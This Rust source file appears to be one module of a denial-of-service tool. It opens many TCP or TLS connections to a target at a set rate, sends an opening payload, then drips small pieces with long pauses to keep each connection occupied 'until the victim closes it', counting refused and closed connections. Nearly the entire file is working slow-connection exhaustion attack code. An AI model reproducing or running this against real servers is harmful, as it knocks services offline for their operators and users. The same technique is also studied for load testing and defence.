//! Connections that are held open, by a byte now and then or by nothing at all.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, split};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};

use super::Front;

/// What each connection says.
pub(super) struct Hold {
    /// Without it, nothing but TCP.
    pub(super) tls: Option<Arc<ClientConfig>>,
    /// At once.
    pub(super) begin: Vec<u8>,
    /// Then, a piece each time, and from the start again.
    pub(super) drip: Vec<Vec<u8>>,
    /// The pause between two pieces.
    pub(super) pause: Duration,
}

pub(super) async fn run(front: &Arc<Front>, hold: Hold) {
    let hold = Arc::new(hold);
    let mut lines = JoinSet::new();
    for number in 0..front.connections {
        lines.spawn(line(Arc::clone(front), Arc::clone(&hold), number));
    }
    lines.join_all().await;
}

/// One connection after the other, no faster than the rate allows all of them together.
async fn line(front: Arc<Front>, hold: Arc<Hold>, number: u32) {
    let second = Duration::from_secs(1);
    let mut next = Instant::now() + second * number / front.rate;
    while next < front.end {
        sleep_until(next).await;
        next = Instant::now() + (second * front.connections / front.rate).max(super::flood::REOPEN);
        let held = timeout_at(front.end, async {
            match &hold.tls {
                Some(config) => keep(&front, &hold, front.target.tls(config).await?).await,
                None => keep(&front, &hold, front.target.tcp().await?).await,
            }
            std::io::Result::Ok(())
        });
        if let Ok(Err(_)) = held.await {
            front.tally.refused.add(1);
        }
    }
}

/// Until the victim closes it.
async fn keep(front: &Arc<Front>, hold: &Hold, io: impl AsyncRead + AsyncWrite + Unpin) {
    front.tally.opened.add(1);
    let (read, mut write) = split(io);
    let speak = async {
        write.write_all(&hold.begin).await?;
        front.tally.units.add(1);
        for piece in hold.drip.iter().cycle() {
            sleep(hold.pause).await;
            write.write_all(piece).await?;
            front.tally.units.add(1);
        }
        std::future::pending::<std::io::Result<()>>().await
    };
    tokio::select! {
        () = front.tally.read(read) => {}
        // What cannot be written was closed.
        _ = speak => front.tally.closed.add(1),
    }
}
